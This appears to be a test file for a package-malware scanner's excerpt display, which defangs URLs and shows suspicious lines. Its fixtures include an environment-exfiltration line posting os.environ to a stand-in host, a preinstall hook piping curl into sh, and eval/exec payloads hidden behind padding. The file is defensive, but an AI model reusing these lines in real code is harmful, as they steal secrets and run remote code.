from __future__ import annotations

import pytest

from darnel.attribution import Reason
from darnel.excerpts import excerpt, with_excerpts
from darnel.features.package import MemoryPackage
from tests.darnel.builders import evidence

LINES = b"import os\n\n    requests.post('http://a.example.invalid', data=os.environ)\nlast"


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (1, "import os"),
        (2, ""),
        (3, "requests.post('hxxp://a[.]example[.]invalid', data=os.environ)"),
        (4, "last"),
        (5, ""),
        (10**6, ""),
    ],
)
def test_a_line(line: int, shown: str) -> None:
    assert excerpt(LINES, line) == shown


def test_of_a_long_line_the_place_itself_is_shown() -> None:
    data = b"x=1;\n" + b"a" * 50_000 + b";eval(atob(p));" + b"b" * 50_000
    order = data.index(b"(p));") + 4
    shown = excerpt(data, 2, order)
    assert "eval(atob(p))" in shown
    assert shown.startswith("…")
    assert len(shown) <= 160


def test_an_offset_of_another_line_is_ignored() -> None:
    data = b"a" * 500 + b"\n" + b"b" * 500
    assert set(excerpt(data, 1, 900)) == {"a", "…"}


def test_padding_does_not_push_code_out() -> None:
    data = b"ok = 1;" + b" " * 3000 + b"exec(payload)\n"
    assert "exec(payload)" in excerpt(data, 1, data.index(b"\n"))


def test_excerpts_are_read_from_their_files() -> None:
    manifest = b'{\n "scripts": {\n  "postinstall": "node x.js"\n }\n}\n'
    package = MemoryPackage({"a.py": LINES, "package.json": manifest, "b#c.py": b"odd()\n"})
    reasons = [
        Reason(evidence(file="package.json#postinstall", line=3), 9),
        Reason(evidence(file="a.py", line=1)),
        Reason(evidence(file="", line=None)),
        Reason(evidence(file="gone.py", line=1)),
        Reason(evidence(file="b#c.py", line=1)),
    ]
    shown = [e.excerpt for e in with_excerpts(package, reasons)]
    assert shown == ["node x.js", "import os", "", "", "odd()"]


def test_a_lifecycle_script_is_shown_whatever_the_manifest_is_written_in() -> None:
    scripts = b'"scripts": {"preinstall": "curl http://a.example.invalid | sh", "test": "node t.js"}}'
    package = MemoryPackage({"package.json": b'{"name": "x", "description": "' + b"long " * 50 + b'", ' + scripts})
    reasons = [
        Reason(evidence(behaviour="spawn.piped", file="package.json#preinstall", line=1), 30),
        Reason(evidence(behaviour="install.hook", file="package.json", line=1), 1),
    ]
    inside, hook = (e.excerpt for e in with_excerpts(package, reasons))
    assert inside == "curl hxxp://a[.]example[.]invalid | sh"
    assert hook == f"preinstall: {inside}"


def test_the_line_of_a_script_of_several_lines() -> None:
    package = MemoryPackage({"package.json": b'{"scripts": {"preinstall": "echo\\ncurl x | sh"}}'})
    (shown,) = with_excerpts(package, [Reason(evidence(file="package.json#preinstall", line=2), 12)])
    assert shown.excerpt == "curl x | sh"
